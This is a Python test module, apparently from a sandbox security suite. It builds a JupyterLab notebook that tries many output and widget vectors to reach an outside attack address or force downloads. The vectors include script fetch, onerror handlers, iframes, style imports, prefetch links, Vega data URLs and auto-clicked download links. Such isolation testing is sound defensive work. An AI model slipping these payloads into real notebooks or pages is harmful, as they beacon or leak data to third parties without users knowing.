"""What a notebook can try without any script of its own in the page: outputs, saved or made by a cell, and widgets.

``url`` in the programs is an address elsewhere that belongs to the attack. All run in one cell of a real JupyterLab,
once in the sealed workspace and once in a stock one, where they succeed.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass

from tests.attacks.browser.page_attacks import Sign

DONE = "all outputs were tried"


@dataclass(frozen=True)
class OutputAttack:
    """One way: the cell's program, and the element that a person then clicks, if any."""

    name: str
    program: str
    sign: Sign = Sign.ARRIVES
    click: str = ""


def _html(name: str, html: str, sign: Sign = Sign.ARRIVES, click: str = "") -> OutputAttack:
    return OutputAttack(name, f"display(HTML(f'''{html}'''))", sign, click)


OUTPUTS = (
    _html("output-image", "<img src='{url}'>"),
    _html("output-style", "<style>@import '{url}';</style>"),
    _html("output-script", "<script>fetch('{url}', {{mode: 'no-cors'}})</script>"),
    _html("output-event", "<img src='data:,' onerror=\"fetch('{url}', {{mode: 'no-cors'}})\">"),
    _html("output-frame", "<iframe src='{url}'></iframe>"),
    _html("output-frame-document", "<iframe srcdoc=\"<img src='{url}'>\"></iframe>"),
    _html("output-video", "<video src='{url}' preload=auto></video>"),
    _html("output-prefetch", "<link rel=prefetch href='{url}'>"),
    OutputAttack("output-iframe-object", "display(IFrame(url, 10, 10))"),
    OutputAttack("output-javascript", "display(Javascript(f\"fetch('{url}', {{mode: 'no-cors'}})\"))"),
    OutputAttack("output-javascript-library", "display(Javascript('1', lib=url))"),
    OutputAttack("output-markdown-image", "display(Markdown(f'![x]({url})'))"),
    OutputAttack("output-remote-image", "display(Image(url=url))"),
    OutputAttack("output-remote-video", "display(Video(url=url))"),
    OutputAttack("output-vega-data", "display({'application/vnd.vegalite.v5+json': {'data': {'url': url, 'format':"
                 " {'type': 'csv'}}, 'mark': 'bar', 'encoding': {'x': {'field': 'a'}}}}, raw=True)"),
    OutputAttack("widget-html", "display(widgets.HTML(f'<img src=\"{url}\">'))"),
    OutputAttack("widget-image", "display(widgets.Image(value=url.encode(), format='url'))"),
    OutputAttack("widget-output", "o = widgets.Output(); o.append_display_data(HTML(f'<img src=\"{url}\">'));"
                 "display(o)"),
    OutputAttack("widget-download", "display(widgets.HTML('<a class=\"wd\" download=w.csv"
                 " href=\"data:text/csv,x\">x</a>'))",
                 Sign.DOWNLOADS, "a.wd"),
    _html("output-download-link", "<a class=\"od\" download=o.csv href=\"data:text/csv,x\">x</a>", Sign.DOWNLOADS,
          "a.od"),
    _html("output-download-script", "<a id=ds download=s.csv href=\"data:text/csv,x\">x</a>"
          "<script>document.getElementById('ds').click()</script>", Sign.DOWNLOADS),
    _html("output-form", "<form action='{url}' target=_blank><button class=\"of\">x</button></form>",
          Sign.ARRIVES, "button.of"),
    _html("output-link", "<a class=\"ol\" href='{url}' target=_blank>x</a>", Sign.ARRIVES, "a.ol"),
    _html("output-command", "<button class=\"oc\" data-commandlinker-command=\"docmanager:download\" "
          "data-commandlinker-args='{{}}'>x</button>", Sign.DOWNLOADS, "button.oc"),
)  # fmt: skip

SAVED = (
    OutputAttack("saved-output-image", "<img src='{url}'>"),
    OutputAttack("saved-markdown-image", "![x]({url})"),
)
"""What lies in the notebook's file and is shown without a cell being run."""

ATTACKS = (*OUTPUTS, *SAVED)


def notebook(address: Callable[[str], str], kernel: str) -> str:
    """A notebook that tries all of them. ``address`` gives each attack's address elsewhere; ``kernel`` names what
    runs it."""
    output, markdown = (attack.program.format(url=address(attack.name)) for attack in SAVED)
    lines = ["import ipywidgets as widgets", "from IPython.display import *"]
    for attack in OUTPUTS:
        lines += [f"url = {address(attack.name)!r}", attack.program]
    saved = {"output_type": "display_data", "metadata": {}, "data": {"text/html": output}}
    code = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
    cells = [
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": markdown},
        {**code, "id": "s", "source": "1", "outputs": [saved]},
        {**code, "id": "r", "source": "\n".join([*lines, f"print({DONE!r})"])},
    ]
    spec = {"kernelspec": {"name": kernel, "display_name": kernel, "language": "python"}}
    return json.dumps({"cells": cells, "metadata": spec, "nbformat": 4, "nbformat_minor": 5})
